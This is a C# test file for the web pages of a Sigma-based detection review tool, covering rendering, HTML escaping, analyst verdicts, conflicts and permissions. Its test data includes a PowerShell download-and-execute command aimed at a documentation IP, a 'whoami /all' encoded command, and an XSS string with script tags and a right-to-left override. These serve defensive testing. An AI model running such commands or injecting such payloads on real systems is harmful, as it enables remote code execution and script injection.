using System.Collections.Immutable;
using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using Azure.Data.Tables;
using Microsoft.Extensions.Time.Testing;
using SigmaFunctions.Engine.Files;
using SigmaFunctions.Engine.RuleSets;
using SigmaFunctions.Pages.Model;
using SigmaFunctions.Storage.Alerts;
using SigmaFunctions.Storage.Detections;
using SigmaFunctions.Storage.Model;
using SigmaFunctions.Storage.Verdicts;
using SigmaFunctions.Telemetry;
using SigmaFunctions.Tests;

namespace SigmaFunctions.Pages.Tests;

/// <summary>The pages over a storage account: what they say, and what becomes of a verdict.</summary>
public sealed class DetectionPagesTests(StorageAccount account) : IAsyncLifetime
{
    private const string Rule = "11111111-1111-4111-8111-111111111111";
    private const string Second = "22222222-2222-4222-8222-222222222222";
    private const string Hostile = "<img src=x onerror=alert(1)>\"'</code><script>alert(2)</script>\u202egnp";

    private static readonly DateTimeOffset Now = new(2026, 12, 1, 3, 30, 0, TimeSpan.Zero);
    private static readonly RuleSet Rules = RuleSet.Load([new RuleFile("rule.yml", $$"""
        title: Shell downloads
        id: {{Rule}}
        description: Says why it matters.
        author: A. Author
        level: high
        logsource: { category: process_creation, product: windows }
        detection:
            selection: { CommandLine|contains: DownloadString }
            condition: selection
        falsepositives: [Scripts of administrators]
        """)]);

    private readonly FakeTimeProvider _time = new(Now);
    private DetectionTable _table = null!;
    private DetectionPages _pages = null!;
    private VerdictStore _verdicts = null!;

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    /// <inheritdoc/>
    public async ValueTask InitializeAsync()
    {
        TableClient rows = await account.CreateTableAsync();
        var index = new DetectionIndex(await account.CreateTableAsync());
        _table = new DetectionTable(rows, _time, index: index);
        _verdicts = new VerdictStore(await account.CreateTableAsync());
        _pages = new DetectionPages(
            new PageSources
            {
                Detections = _table,
                Search = new DetectionSearch(rows),
                Index = index,
                Windows = new AlertWindows(await account.CreateTableAsync(), _time),
                Verdicts = _verdicts,
                Rules = () => Rules,
                Decoder = new EventDecoder(),
            },
            new PageOptions { Navigation = [new PageLinkItem("/detections", "Detections")], Catalogue = "/catalog/", Footer = "A test." },
            _time);
    }

    /// <inheritdoc/>
    public ValueTask DisposeAsync()
    {
        _pages.Dispose();
        return ValueTask.CompletedTask;
    }

    [Fact]
    public async Task The_list_shows_an_event_once_with_what_matched()
    {
        Detection detection = Make(1, Rule, "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')");
        await AddAsync(detection, Make(1, Second, detection.Fields[0].Value) with { Level = "low" });

        string page = await GetAsync("/detections", 200);

        Assert.Contains("1 event with 2 detections", page, StringComparison.Ordinal);
        Assert.Contains($"<a href=\"/d/{detection.Id.Value}\">Shell downloads</a> <span class=\"more\">and 1 rule more</span>", page, StringComparison.Ordinal);
        Assert.Contains("<mark>DownloadString</mark>(", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_page_of_an_event_says_what_why_and_what_was_around_it()
    {
        string encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes("whoami /all; DownloadString"));
        Detection detection = Make(1, Rule, $"powershell DownloadString -enc {encoded}");
        Detection before = Make(-300, "other", "net user") with { RuleTitle = "Something before" };
        Detection elsewhere = Make(-200, "other", "net user") with { RuleTitle = "Something elsewhere", Host = "ws-2", User = "bob" };
        await AddAsync(detection, before, elsewhere);

        string page = await GetAsync($"/d/{detection.Id.Value}", 200);

        foreach (string said in new[]
        {
            "<h1>Shell downloads</h1>", "Says why it matters.", "Scripts of administrators", "By A. Author", "<mark>DownloadString</mark>", "whoami /all; DownloadString</code>",
            "CommandLine contains &#39;DownloadString&#39;", "Something before", "<b>this event</b>", "DeviceProcessEvents", "its alert is still to be sent", "1 detection in 30 days", "parent.exe",
        })
        {
            Assert.Contains(said, page, StringComparison.Ordinal);
        }

        Assert.DoesNotContain("Something elsewhere", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Nothing_that_a_sender_writes_becomes_markup()
    {
        Detection detection = Make(1, Rule, $"DownloadString {Hostile}") with { Host = Hostile, User = Hostile, RuleTitle = Hostile, RuleAuthor = Hostile };
        await AddAsync(detection);

        foreach (string path in new[] { "/detections", $"/d/{detection.Id.Value}" })
        {
            string page = await GetAsync(path, 200);

            Assert.DoesNotContain("<img", page, StringComparison.Ordinal);
            Assert.DoesNotContain("\u202e", page, StringComparison.Ordinal);
            Assert.Equal(3, Regex.Count(page, "<script"));
            Assert.Contains("&lt;img src=x", page, StringComparison.Ordinal);
            Assert.DoesNotMatch("\\s(style|on[a-z]+)=\"", Regex.Replace(page, "&[a-z#0-9]+;", ""));
        }
    }

    [Theory]
    [InlineData("9999-12-31T23:59:59Z")]
    [InlineData("1601-01-01T00:00:00Z")]
    public async Task A_time_that_a_sender_forges_leaves_the_page_readable(string time)
    {
        Detection detection = Make(1, Rule, "DownloadString") with { EventTime = DateTimeOffset.Parse(time, CultureInfo.InvariantCulture) };
        await AddAsync(detection);

        Assert.Contains("DeviceProcessEvents", await GetAsync($"/d/{detection.Id.Value}", 200), StringComparison.Ordinal);
        Assert.Contains("1 event with", await GetAsync("/detections", 200), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_page_of_very_many_rules_and_long_values_stays_small_and_tells_what_it_leaves_out()
    {
        Detection[] detections = [.. Enumerable.Range(0, 120).Select(i => Make(1, i == 0 ? Rule : $"rule-{i}", "DownloadString " + new string('x', 20_000)))];
        await AddAsync(detections);

        string page = await GetAsync($"/d/{detections[0].Id.Value}", 200);

        Assert.Contains("120 rules matched this event", page, StringComparison.Ordinal);
        Assert.Contains("and 20 other rules, which this page leaves out", page, StringComparison.Ordinal);
        Assert.InRange(page.Length, 1, 150_000);
        await DecideAsync(detections[0], "alice", "benign", "");
        Assert.Equal(100, (await _verdicts.GetAsync([.. detections.Select(one => one.Id)], Token)).Count);
    }

    [Fact]
    public async Task A_page_behind_the_last_says_so()
    {
        await AddAsync(Make(1, Rule, "DownloadString"));

        Assert.Contains("There is no such page of the list", await GetAsync("/detections?page=7", 200), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/d/", 404)]
    [InlineData("/d/nothing", 404)]
    [InlineData("/d/202612010330000000000-a0000000000000000000000000000000", 404)]
    [InlineData("/detections", 200)]
    public async Task What_is_not_there_is_said(string path, int status) => Assert.Contains(status == 404 ? "Not found" : "Nothing was detected in this range.", await GetAsync(path, status), StringComparison.Ordinal);

    [Fact]
    public async Task A_verdict_holds_for_all_rules_of_the_event_and_says_by_whom_and_why()
    {
        Detection detection = Make(1, Rule, "DownloadString");
        Detection other = Make(1, Second, "DownloadString");
        await AddAsync(detection, other);

        await DecideAsync(detection, "alice", "falsePositive", "Known installer <b>");

        string page = await GetAsync($"/d/{other.Id.Value}", 200);
        Assert.Contains("verdict-falsePositive\">false positive</span>", page, StringComparison.Ordinal);
        Assert.Contains("alice", page, StringComparison.Ordinal);
        Assert.Contains("Known installer &lt;b&gt;", page, StringComparison.Ordinal);
        (Verdict Verdict, Detection Detection)? kept = await _verdicts.FindJudgedAsync(detection.Id, Token);
        Assert.Equal((VerdictKind.FalsePositive, Rules.Revision, detection.Original), (kept!.Value.Verdict.Kind, kept.Value.Verdict.RuleRevision, kept.Value.Detection.Original));
        Assert.Contains("verdict-falsePositive", await GetAsync("/detections", 200), StringComparison.Ordinal);
        Assert.Contains("1 event with 2 detections", await GetAsync("/detections?verdict=falsePositive", 200), StringComparison.Ordinal);
        Assert.Contains("0 events", await GetAsync("/detections?verdict=none", 200), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Who_saw_an_older_state_decides_nothing_and_is_told()
    {
        Detection detection = Make(1, Rule, "DownloadString");
        await AddAsync(detection);
        ImmutableArray<KeyValuePair<string, string>> seen = Fields(await GetAsync($"/d/{detection.Id.Value}", 200));
        await DecideAsync(detection, "alice", "truePositive", "");

        PageReply reply = await PostAsync(detection, "bob", [.. seen, new("verdict", "benign"), new("reason", "")]);

        Assert.Equal(409, reply.Status);
        Assert.Contains("Somebody else has decided", Text(reply), StringComparison.Ordinal);
        Assert.Equal(VerdictKind.TruePositive, (await _verdicts.GetAsync(detection.Id, Token))!.Kind);
    }

    [Fact]
    public async Task A_verdict_is_taken_back_and_its_history_stays()
    {
        Detection detection = Make(1, Rule, "DownloadString");
        await AddAsync(detection);
        await DecideAsync(detection, "alice", "truePositive", "seen before");
        await DecideAsync(detection, "bob", "none", "not so");

        string page = await GetAsync($"/d/{detection.Id.Value}", 200);

        Assert.Contains("Changed 1×", page, StringComparison.Ordinal);
        Assert.Contains("seen before", page, StringComparison.Ordinal);
        Assert.DoesNotContain("verdict-truePositive", await GetAsync("/detections", 200), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("wrong", "")]
    [InlineData("truePositive", "a rule of another event")]
    public async Task A_form_that_is_wrong_changes_nothing(string verdict, string rule)
    {
        Detection detection = Make(1, Rule, "DownloadString");
        await AddAsync(detection);
        ImmutableArray<KeyValuePair<string, string>> seen = Fields(await GetAsync($"/d/{detection.Id.Value}", 200));

        PageReply reply = await PostAsync(detection, "alice", [.. seen, new("verdict", verdict), new("rule", rule)]);

        Assert.Equal(409, reply.Status);
        Assert.Null(await _verdicts.GetAsync(detection.Id, Token));
    }

    [Fact]
    public async Task Who_may_only_read_gives_no_verdict()
    {
        Detection detection = Make(1, Rule, "DownloadString");
        await AddAsync(detection);

        PageReply page = await _pages.AnswerAsync(new PageRequest($"/d/{detection.Id.Value}", []) { User = "reader" }, Token);
        PageReply reply = await _pages.AnswerAsync(new PageRequest($"/d/{detection.Id.Value}", []) { User = "reader", Form = [.. Fields(await GetAsync($"/d/{detection.Id.Value}", 200)), new("verdict", "benign")] }, Token);

        Assert.DoesNotContain("<form", Text(page), StringComparison.Ordinal);
        Assert.Equal(403, reply.Status);
        Assert.Null(await _verdicts.GetAsync(detection.Id, Token));
    }

    [Fact]
    public async Task What_lands_later_is_shown_without_reading_all_again()
    {
        await AddAsync(Make(-7_200, Rule, "DownloadString 1"));
        Assert.Contains("1 event with", await GetAsync("/detections", 200), StringComparison.Ordinal);
        await AddAsync(Make(1, Rule, "DownloadString 2"));

        _time.Advance(TimeSpan.FromSeconds(3));

        Assert.Contains("2 events with", await GetAsync("/detections", 200), StringComparison.Ordinal);
    }

    private static ImmutableArray<KeyValuePair<string, string>> Fields(string page) =>
        [.. Regex.Matches(page, "name=\"seen\" value=\"([^\"]+)\"").Select(match => KeyValuePair.Create("seen", match.Groups[1].Value))];

    private static string Text(PageReply reply) => Encoding.UTF8.GetString(reply.Body.Span);

    private static Detection Make(int second, string rule, string command)
    {
        var identity = new HubEventIdentity("ns.servicebus.windows.net", "events", "0", Now.AddSeconds(second), second + 10_000, 0);
        return new Detection
        {
            Identity = identity,
            RuleId = rule,
            RuleTitle = rule == Rule ? "Shell downloads" : "Another rule",
            RuleAuthor = "A. Author",
            Level = "high",
            Tags = ["attack.t1059.001"],
            EventTime = identity.EnqueuedTime,
            Host = "ws-1",
            User = @"CONTOSO\alice",
            Fields = [new DetectedField("CommandLine", command)],
            Facts = new EventFacts { Process = new ProcessFacts(@"C:\a\powershell.exe", command, "12"), Parent = new ProcessFacts(@"C:\a\parent.exe", "parent", "11") },
            Original = JsonSerializer.Serialize(new { category = "process_creation", product = "windows", CommandLine = command, Image = @"C:\a\powershell.exe", Computer = "ws-1" }),
        };
    }

    private Task<RecordedDetections> AddAsync(params Detection[] detections) => _table.AddAsync(detections, Token);

    private async Task<string> GetAsync(string address, int status)
    {
        string[] parts = address.Split('?', 2);
        PageReply reply = await _pages.AnswerAsync(
            new PageRequest(parts[0], [.. (parts is [_, var query] ? query.Split('&') : []).Select(pair => pair.Split('=')).Select(pair => KeyValuePair.Create(pair[0], WebUtility.UrlDecode(pair[1])))])
            {
                User = "alice",
                MayDecide = true,
            },
            Token);
        Assert.Equal(status, reply.Status);
        return Text(reply);
    }

    private async Task<PageReply> PostAsync(Detection detection, string user, ImmutableArray<KeyValuePair<string, string>> form) =>
        await _pages.AnswerAsync(new PageRequest($"/d/{detection.Id.Value}", []) { User = user, MayDecide = true, Form = form }, Token);

    private async Task DecideAsync(Detection detection, string user, string verdict, string reason)
    {
        PageReply reply = await PostAsync(detection, user, [.. Fields(await GetAsync($"/d/{detection.Id.Value}", 200)), new("verdict", verdict), new("reason", reason), new("rule", "")]);
        Assert.Equal((303, $"/d/{detection.Id.Value}"), (reply.Status, reply.Location));
    }
}
